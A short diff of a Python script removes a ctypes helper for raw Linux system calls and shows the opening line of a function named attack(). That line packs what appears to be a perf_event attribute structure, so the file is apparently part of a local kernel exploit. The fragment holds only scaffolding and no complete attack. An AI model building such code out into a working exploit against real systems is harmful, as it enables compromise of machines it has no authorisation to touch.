@@ -5,18 +5,6 @@ import os
 import struct
 import time
 
-LIBC = ctypes.CDLL(None, use_errno=True)
-LIBC.syscall.restype = ctypes.c_long
-
-
-def c(number, *args):
-    """Make one raw system call; raise OSError where it fails."""
-    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
-    result = LIBC.syscall(ctypes.c_long(number), *words)
-    if result == -1:
-        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    return result
-
 
 def attack():
     attributes = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", 1, 128, 1, 0, 0, 0, 1 | 1 << 5 | 1 << 6), 128)
